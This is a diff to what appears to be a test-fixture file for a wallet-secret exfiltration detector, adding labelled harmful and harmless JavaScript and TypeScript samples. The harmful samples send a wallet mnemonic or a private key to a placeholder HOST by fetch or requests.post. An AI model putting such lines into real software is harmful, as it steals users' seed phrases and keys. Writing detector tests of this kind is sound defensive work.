@@ -38,6 +38,12 @@ HARM: dict[str, dict[str, str]] = {
             f'requests.post("{HOST}", json={{"k": a.key.hex()}})\n'
         )
     },
+    "a phrase of what was made of it": {
+        "a.js": (
+            "const { Mnemonic } = require('ethers');\nconst made = Mnemonic.fromPhrase(words);\n"
+            f"fetch('{HOST}', {{ method: 'POST', body: JSON.stringify({{ p: made.mnemonic }}) }});\n"
+        )
+    },
     "a phrase in Python": {
         "a.py": (
             "import requests\nfrom eth_account import Account\n\n\ndef load(words):\n"
@@ -78,6 +84,22 @@ HARMLESS: dict[str, dict[str, str]] = {
         )
     },
     "a wrapper that sends nothing": {"a.py": PATCHED.format("print(len(raw))")},
+    "the address of what was made of a key": {
+        "a.js": (
+            "const privateKey = fs.readFileSync(path, 'utf8').trim();\n"
+            "const wallet = new ethers.Wallet(privateKey, provider);\n"
+            "const signature = await wallet.signMessage(text);\n"
+            f"const answer = await fetch(`{HOST}?wallet=${{wallet.address.toLowerCase()}}`, {{ headers: own() }});\n"
+            f"await fetch('{HOST}', {{ method: 'POST', body: JSON.stringify({{ signature }}) }});\n"
+        )
+    },
+    "the key of a service of wallets": {
+        "a.ts": (
+            "const secretKey = process.env.THIRDWEB_SECRET_KEY;\nexport const wallets = () => fetch(\n"
+            f"  '{HOST}/wallets', {{ method: 'POST', headers: {{ 'x-secret-key': secretKey }} }});\n"
+            "export interface Wallet { address: string }\n"
+        )
+    },
     "a key that is no wallet's": {
         "a.js": f"export const put = (secretKey) => fetch('{HOST}', {{ method: 'PUT', body: secretKey }});\n"
     },
